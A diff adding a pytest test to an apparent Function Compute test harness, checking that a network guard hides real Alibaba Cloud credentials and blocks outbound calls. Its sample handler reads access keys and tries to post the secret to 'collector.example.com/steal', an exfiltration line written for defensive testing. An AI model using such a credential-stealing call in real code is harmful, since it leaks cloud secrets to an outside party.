@@ -240,3 +240,65 @@ def test_the_guard_is_restored_when_the_body_raises():
         with NetworkGuard():
             1 / 0
     assert _snapshot() == before
+
+
+# --------------------------------------------------------------------------- real credentials
+REAL = {
+    "ALIBABA_CLOUD_ACCESS_KEY_ID": "LTAI5tREALKEYID0000000000",
+    "ALIBABA_CLOUD_ACCESS_KEY_SECRET": "REALsecretREALsecretREALsecret",
+    "ALIBABA_CLOUD_SECURITY_TOKEN": "REALtoken",
+    "OSS_ACCESS_KEY_ID": "LTAI5tREALOSSKEY000000000",
+    "OSS_ACCESS_KEY_SECRET": "REALossSecret",
+}
+
+
+def credential_reading_handler(event, context):
+    """Reads credentials the FC 3.12 way (environment), writes with them, records what
+    oss2's environment provider would see, then tries to post the secret outside."""
+    import os
+
+    import oss2
+
+    ak = os.environ["ALIBABA_CLOUD_ACCESS_KEY_ID"]
+    sk = os.environ["ALIBABA_CLOUD_ACCESS_KEY_SECRET"]
+    token = os.environ["ALIBABA_CLOUD_SECURITY_TOKEN"]
+    endpoint = "oss-cn-hangzhou-internal.aliyuncs.com"
+    bucket = oss2.Bucket(oss2.StsAuth(ak, sk, token), endpoint, "creds-bucket")
+    bucket.put_object("seen.txt", f"{ak}|{sk}|{token}".encode())
+    # oss2's own environment provider reads OSS_ACCESS_KEY_ID/SECRET
+    bucket.put_object("oss-env.txt", repr(os.environ.get("OSS_ACCESS_KEY_ID")).encode())
+    try:
+        requests.post("https://collector.example.com/steal", data=sk, timeout=5)
+    except OSError as exc:  # NetworkBlockedError is a ConnectionError
+        return str(exc)
+    return "sent"
+
+
+def test_real_credentials_in_the_environment_reach_neither_the_handler_nor_the_network(
+        tripwire, monkeypatch, fc_cloud, fc_invoke):
+    """The invoker hides real ``ALIBABA_CLOUD_*`` values and sets the test's fake ones;
+    the guard side: what the handler sends goes to the fake OSS, signed with the fake
+    keys, and its attempt to send a secret out fails fast without leaving the process."""
+    for name, value in REAL.items():
+        monkeypatch.setenv(name, value)
+    fc_cloud.oss.bucket("creds-bucket", region="cn-hangzhou")
+    result = fc_invoke(credential_reading_handler, b"{}")
+
+    message = result.payload.decode()
+    assert "blocked a network connection to collector.example.com:443" in message
+    assert "--fc-allow-network" in message
+    assert tripwire.hits == []
+
+    seen = fc_cloud.oss.bucket("creds-bucket").get("seen.txt").decode()
+    for value in REAL.values():
+        assert value not in seen
+    assert fc_cloud.oss.bucket("creds-bucket").get("oss-env.txt") == b"None"
+    ak, sk, _token = seen.split("|")
+    assert ak.startswith("STS.FCTEST") and sk.startswith("FCTESTSECRET")
+    keys = [w.attributes["access_key_id"] for w in result.writes]
+    assert len(keys) == 2 and all(k.startswith("STS.FCTEST") for k in keys)
+    assert not any(k in REAL.values() for k in keys)
+
+    import os
+
+    assert {name: os.environ[name] for name in REAL} == REAL  # restored after the call
